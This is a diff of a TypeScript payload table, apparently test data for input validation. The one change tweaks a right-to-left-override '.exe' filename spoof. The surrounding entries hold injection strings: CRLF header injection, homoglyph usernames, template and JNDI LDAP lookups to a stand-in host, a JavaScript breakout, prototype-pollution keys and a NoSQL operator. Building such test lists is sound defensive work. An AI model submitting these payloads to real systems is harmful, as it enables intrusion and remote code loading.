@@ -14,7 +14,7 @@ export const payloads: Readonly<Record<string, readonly string[]>> = {
   'line breaks': ['a\r\nSet-Cookie: x=1', 'a\nLevel: info', '\u2028', '\u2029'],
   'lone surrogates': ['\ud800', '\udfff', 'a\ud83d', '\ude00\ud83d'],
   'other alphabets': ['аdmin', 'ＡＤＭＩＮ', 'ⓐⓓⓜⓘⓝ', 'ſelect', 'İstanbul', 'ﷺ'],
-  'direction and width': ['\u202egnp.exe', 'a\u200bb', '\ufeffx', '\u2066x\u2069', 'e\u0301\u0301\u0301\u0301'],
+  'direction and width': ['\u202egnp.exe?', 'a\u200bb', '\ufeffx', '\u2066x\u2069', 'e\u0301\u0301\u0301\u0301'],
   templates: [`\${7*7}`, '{{7*7}}', '#{7*7}', '<%= 7*7 %>', `\${jndi:ldap://x.example/a}`],
   'JavaScript and JSON': [`'];process.exit(1);//`, `"},"admin":{"`, '__proto__', 'constructor.prototype', '{"$gt":""}'],
   markup: [
